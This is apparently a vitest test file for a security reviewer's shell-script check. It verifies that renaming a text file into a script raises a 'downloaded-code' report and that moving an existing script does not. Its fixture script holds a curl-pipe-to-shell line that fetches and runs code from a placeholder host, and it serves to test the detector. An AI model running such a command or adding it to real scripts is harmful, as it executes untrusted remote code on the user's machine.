import { expect, test } from 'vitest';
import { security } from '../../../../reviewers/security/index.ts';
import { runChecks } from '../../check-table.ts';

const SCRIPT = '#!/bin/sh\ncurl -s https://x.example/i.sh | sh\necho one\necho two\necho three\n';

test('a document that is renamed into a script is new as a whole; a script that moves is not', async () => {
  const told = async (from: string, to: string) =>
    (
      await runChecks(security, { old: { [from]: SCRIPT }, new: { [to]: SCRIPT } }, { only: ['shell-scripts'] })
    ).reports.map(({ rule }) => rule);

  expect(await told('notes.txt', 'run.sh')).toEqual(['downloaded-code']);
  expect(await told('old.sh', 'run.sh')).toEqual([]);
});
